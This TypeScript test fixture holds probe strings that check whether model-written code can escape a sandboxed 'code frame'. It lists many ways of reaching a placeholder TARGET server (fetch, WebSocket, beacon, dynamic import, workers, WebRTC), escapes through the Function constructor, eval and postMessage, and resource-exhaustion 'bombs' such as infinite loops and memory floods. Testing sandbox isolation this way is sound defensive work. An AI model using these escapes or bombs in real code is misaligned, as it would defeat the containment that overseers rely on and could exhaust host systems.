// Ways in which code of a model could try to leave the code frame. TARGET is a server that counts requests.

const wait = 'await new Promise((done) => setTimeout(done, 150))'
const ended = `${wait}; return []`
const inWorker = (code: string) =>
  `URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' }))`

/** Probes that make a request. Which APIs exist in a worker depends on the browser. */
export const probes: Readonly<Record<string, string>> = {
  fetches: `await fetch('http://TARGET/?fetch', { mode: 'no-cors' }).catch(() => 0); return []`,
  'fetches with keepalive': `await fetch('http://TARGET/?keep', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }).catch(() => 0); return []`,
  'opens an XMLHttpRequest': `const request = new XMLHttpRequest(); request.open('GET', 'http://TARGET/?xhr', false); try { request.send() } catch {} return []`,
  'opens a WebSocket': `new WebSocket('ws://TARGET/?socket'); ${ended}`,
  'opens an EventSource': `new EventSource('http://TARGET/?source'); ${ended}`,
  'opens a WebTransport': `new WebTransport('https://TARGET/?transport').ready.catch(() => 0); ${ended}`,
  'loads a script': `try { importScripts('http://TARGET/?scripts') } catch {} return []`,
  'imports a module': `await import('http://TARGET/?import').catch(() => 0); return []`,
  'imports a module by a computed name': `const from = 'http://TARGET/?import2'; await import(from).catch(() => 0); return []`,
  'starts a worker from there': `try { new Worker('http://TARGET/?worker') } catch {} ${ended}`,
  'starts a worker that fetches': `new Worker(${inWorker("fetch('http://TARGET/?sub', { mode: 'no-cors' })")}); ${ended}`,
  'starts a module worker that imports': `new Worker(${inWorker("import('http://TARGET/?submodule')")}, { type: 'module' }); ${ended}`,
  'sends a beacon': `navigator.sendBeacon('http://TARGET/?beacon', 'x'); ${ended}`,
  'loads a picture': `new Image().src = 'http://TARGET/?image'; ${ended}`,
  'loads a font': `await new FontFace('x', 'url(http://TARGET/?font)').load().catch(() => 0); return []`,
  'loads a style': `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = 'http://TARGET/?css'; document.head.append(link); ${ended}`,
  prefetches: `const link = document.createElement('link'); link.rel = 'prefetch'; link.href = 'http://TARGET/?ahead'; document.head.append(link); ${ended}`,
  'opens a frame': `const frame = document.createElement('iframe'); frame.src = 'http://TARGET/?frame'; document.body.append(frame); ${ended}`,
  'opens a window': `open('http://TARGET/?window'); ${ended}`,
  'calls by WebRTC': `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:TARGET' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(); ${ended}`,
  navigates: `location.href = 'http://TARGET/?location'; location.assign?.('http://TARGET/?assign'); ${ended}`,
  'asks a service worker': `await navigator.serviceWorker.register('http://TARGET/?service').catch(() => 0); return []`,
  'streams wasm': `await WebAssembly.instantiateStreaming(fetch('http://TARGET/?wasm')).catch(() => 0); return []`,
  'opens a shared worker': `new SharedWorker('http://TARGET/?shared'); ${ended}`,
  'fetches a second time through a cache': `const cache = await caches.open('x').catch(() => null); await cache?.add('http://TARGET/?cache'); return []`,
  'reports somewhere': `new ReportingObserver(() => 0).observe(); throw new Error('http://TARGET/?report')`,
}

/** Probes that access the page or another call. */
export const escapes: Readonly<Record<string, string>> = {
  'gets a function by its constructor': `(() => {}).constructor("return fetch('http://TARGET/?constructor')")().catch(() => 0); ${ended}`,
  'spells constructor in two': `const key = 'con' + 'structor'; data.map[key]("return fetch('http://TARGET/?spelled')")().catch(() => 0); ${ended}`,
  'evaluates a string': `eval("fetch('http://TARGET/?eval').catch(() => 0)"); setTimeout("fetch('http://TARGET/?timeout').catch(() => 0)", 0); ${ended}`,
  'looks for objects of the page': `const names = ['document', 'window', 'parent', 'top', 'opener', 'frames', 'frameElement', 'localStorage', 'sessionStorage', 'postMessage', 'cookieStore']; return [{ found: names.filter((name) => globalThis[name] !== undefined && globalThis[name] !== null).join() }]`,
  'looks for storage': `const found = []; const tries = { database: () => new Promise((yes, no) => { const open = indexedDB.open('x'); open.onsuccess = yes; open.onerror = no }), files: () => navigator.storage.getDirectory(), cache: () => caches.open('x'), locks: () => navigator.locks.request('quarterdeck', () => 1) }; for (const [name, open] of Object.entries(tries)) { try { await open(); found.push(name) } catch {} } return [{ found: found.join() }]`,
  'broadcasts to other pages': `const channel = new BroadcastChannel('quarterdeck'); channel.postMessage({ hacked: true }); channel.close(); return []`,
  'posts to all listeners': `try { parent.postMessage('x', '*') } catch {} try { top.postMessage('x', '*') } catch {} return []`,
}

/** Probes that never end. */
export const bombs: Readonly<Record<string, string>> = {
  'loops forever': 'for (;;);',
  'waits forever': 'await new Promise(() => {})',
  'chains promises forever': 'for (;;) await null',
  'floods with messages': `const channel = new MessageChannel(); for (;;) { globalThis.postMessage?.('x'); channel.port1.postMessage('x'.repeat(1000)); await null }`,
  'floods with errors': `const fail = () => { setTimeout(fail, 0); throw new Error('x') }; fail2(); function fail2() { setTimeout(fail, 0) } await new Promise(() => {})`,
  'starts workers forever': `const url = ${inWorker('for (;;);')}; for (let n = 0; n < 4; n += 1) new Worker(url); for (;;);`,
  'recurses forever': 'const again = () => again() + 1; return again()',
  'allocates memory': `const held = []; for (;;) held.push(new Array(1_000_000).fill(held.length))`,
  'allocates buffers': `const held = []; for (;;) held.push(new Uint8Array(50_000_000).fill(1))`,
}
